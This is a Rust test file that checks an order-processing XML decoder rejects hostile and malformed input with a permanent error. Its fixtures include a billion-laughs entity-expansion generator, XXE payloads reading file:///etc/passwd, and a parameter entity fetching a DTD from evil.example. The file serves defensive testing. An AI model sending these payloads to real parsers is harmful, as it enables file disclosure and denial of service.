//! Hostile and broken XML is rejected quickly, permanently and with a clear reason, through the
//! same `decode` the normalize stage uses; a well-formed document still decodes afterwards.
#![allow(clippy::unwrap_used, clippy::expect_used)] // Test code: a failed unwrap is a failed test.

use ordergate::mapping::MappingSet;
use ordergate::normalize::{decode, NormalizeError, Normalizer};
use std::path::Path;

/// The rejection reason and offset of `doc` as `format`; panics if it was accepted.
fn rejected(format: &str, doc: &[u8]) -> (String, usize) {
    match decode(format, &[doc]) {
        Err(e @ NormalizeError::Undecodable { .. }) => {
            assert!(e.is_permanent(), "{e}");
            let NormalizeError::Undecodable { offset, .. } = e else {
                unreachable!()
            };
            (e.to_string(), offset)
        }
        Err(e) => panic!("wrong error: {e}"),
        Ok(_) => panic!("hostile document accepted"),
    }
}

fn sample() -> Vec<u8> {
    std::fs::read(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/samples/cxml-orderrequest-basic-usd/order-request.xml"),
    )
    .unwrap()
}

#[test]
fn billion_laughs() {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        doc += &format!("<!ENTITY lol{i} \"{}\">\n", format!("&{prev};").repeat(10));
    }
    doc += "]>\n<lolz>&lol9;</lolz>";
    let (why, _) = rejected("cxml", doc.as_bytes());
    assert!(why.contains("entity declarations are not allowed"), "{why}");
}

#[test]
fn external_entity() {
    let doc = br#"<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<foo>&xxe;</foo>"#;
    let (why, _) = rejected("ubl", doc);
    assert!(why.contains("entity declarations are not allowed"), "{why}");
    // An external DTD is never read, so its entities are undeclared here.
    let doc = br#"<!DOCTYPE foo SYSTEM "file:///etc/passwd"><foo>&xxe;</foo>"#;
    let (why, offset) = rejected("cxml", doc);
    assert!(why.contains("undeclared entity"), "{why}");
    assert_eq!(offset, doc.len() - "&xxe;</foo>".len());
    // Parameter entities too.
    let doc = br#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><foo/>"#;
    let (why, _) = rejected("cxml", doc);
    assert!(why.contains("entity declarations are not allowed"), "{why}");
}

#[test]
fn deep_nesting() {
    let doc = "<a>".repeat(10_000) + &"</a>".repeat(10_000);
    let (why, offset) = rejected("ubl", doc.as_bytes());
    assert!(why.contains("nested deeper than 64"), "{why}");
    assert_eq!(offset, 64 * 3);
}

#[test]
fn a_million_siblings() {
    let doc = format!("<r>{}</r>", "<e/>".repeat(1_000_000));
    let (why, _) = rejected("ubl", doc.as_bytes());
    assert!(why.contains("more than 100000 elements"), "{why}");
}

#[test]
fn truncated_document() {
    let doc = sample();
    let cut = &doc[..doc.len() / 2];
    let (why, offset) = rejected("cxml", cut);
    assert!(why.contains("document ends inside element"), "{why}");
    assert_eq!(offset, cut.len());
}

#[test]
fn invalid_utf8() {
    let mut doc = sample();
    let at = doc.len() - 40;
    doc[at] = 0xFF;
    let (why, offset) = rejected("cxml", &doc);
    assert!(why.contains("invalid UTF-8"), "{why}");
    assert_eq!(offset, at);
}

#[test]
fn mismatched_tags() {
    let doc = b"<Order><ID>1</Id></Order>";
    let (why, offset) = rejected("ubl", doc);
    assert!(why.contains("malformed XML"), "{why}");
    assert!((12..=17).contains(&offset), "{offset}: {why}");
}

#[test]
fn oversized_attributes_and_text() {
    let attrs: String = (0..10_000).map(|i| format!(" a{i}=\"x\"")).collect();
    let (why, _) = rejected("ubl", format!("<r{attrs}/>").as_bytes());
    assert!(why.contains("more than 256 attributes"), "{why}");
    let doc = format!("<r>{}</r>", "x".repeat(2 * 1024 * 1024));
    let (why, _) = rejected("ubl", doc.as_bytes());
    assert!(why.contains("longer than"), "{why}");
    let doc = vec![b' '; 17 * 1024 * 1024];
    let (why, _) = rejected("ubl", &doc);
    assert!(why.contains("more than the 16777216 allowed"), "{why}");
}

#[test]
fn well_formed_document_still_decodes() {
    // After every kind of rejection above (same process, any order), a good document is fine.
    let _ = decode("cxml", &["<a>".repeat(10_000).as_bytes()]);
    let _ = decode("cxml", &[b"<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>"]);
    let set = MappingSet::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("mappings"))
        .unwrap_or_else(|e| panic!("{e}"));
    let orders = Normalizer::new(set)
        .normalize("cxml", &[&sample()])
        .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(orders.len(), 1);
    assert_eq!(orders[0].source.external_id, "PO-4500187342");
}
